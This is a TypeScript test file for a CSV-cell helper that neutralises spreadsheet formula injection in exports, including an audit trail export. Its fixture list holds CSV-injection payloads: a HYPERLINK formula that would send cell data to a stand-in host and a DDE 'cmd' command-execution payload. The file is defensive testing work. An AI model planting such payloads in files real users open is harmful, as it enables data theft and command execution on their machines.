/**
 * CSV exports are safe to open in a spreadsheet (src/io/csv-cells.ts): text that a spreadsheet
 * would run as a formula is neutralised with a leading apostrophe (OWASP's CSV injection advice),
 * numbers stay numbers, and the documented round trip (a CSV reader, then one leading apostrophe
 * removed) gives back every original text exactly; the audit export uses it.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { formatAudit } from '../src/cases/audit.js';
import { csvCell, originalCellText } from '../src/io/csv-cells.js';
import { GENESIS_HASH, type AuditRecord } from '../src/store/index.js';

const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', "=cmd|' /C calc'!A0"];

describe('CSV cells', () => {
  it('neutralises every text a spreadsheet reads as a formula, and an apostrophe at the start', () => {
    assert.equal(csvCell('=1+1'), "'=1+1");
    assert.equal(csvCell('+1'), "'+1");
    assert.equal(csvCell('-1'), "'-1");
    assert.equal(csvCell('@A1'), "'@A1");
    assert.equal(csvCell('\tx'), "'\tx");
    assert.equal(csvCell('\rx'), `"'\rx"`, 'a carriage return also needs quoting');
    assert.equal(csvCell("'quoted"), "''quoted");
    assert.equal(csvCell('=A1,B1'), `"'=A1,B1"`);
  });

  it('leaves ordinary text, numbers, booleans and missing values as they were', () => {
    assert.equal(csvCell('Song Kum Hyok'), 'Song Kum Hyok');
    assert.equal(csvCell('Garcia, Maria'), '"Garcia, Maria"');
    assert.equal(csvCell('a "b"'), '"a ""b"""');
    assert.equal(csvCell('a-b=c'), 'a-b=c', 'only the first character counts');
    assert.equal(csvCell(-0.5), '-0.5', 'a number is data, not a formula');
    assert.equal(csvCell(0.93), '0.93');
    assert.equal(csvCell(true), 'true');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(undefined), '');
    assert.equal(csvCell({ a: 1 }), '"{""a"":1}"');
  });

  it('round-trips: a CSV reader, then one leading apostrophe removed, gives back each text', () => {
    const texts = [...FORMULAS, "'already", "''twice", 'plain', 'Garcia, Maria', 'line\nbreak', ''];
    const line = texts.map(csvCell).join(',');
    const [cells] = parse(line, { relax_quotes: false }) as string[][];
    assert.deepEqual(cells!.map(originalCellText), texts);
    // And no cell a spreadsheet reads starts with a formula character.
    for (const cell of cells!) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });

  it('the audit export neutralises what a caller wrote into the trail', () => {
    const record: AuditRecord = {
      seq: 1,
      at: '2026-12-07T00:00:00.000Z',
      actor: 'key:abc',
      action: 'subject.upsert',
      subject: FORMULAS[0]!,
      details: { ref: '=evil()' },
      prev_hash: GENESIS_HASH,
      hash: 'f'.repeat(64),
    };
    const [header, row] = parse(formatAudit([record], 'csv')) as string[][];
    assert.equal(header![4], 'subject');
    assert.equal(row![4], `'${FORMULAS[0]}`);
    assert.equal(originalCellText(row![4]!), record.subject);
    assert.deepEqual(JSON.parse(row![5]!), { ref: '=evil()' }, 'details are JSON, which starts with "{"');
  });
});
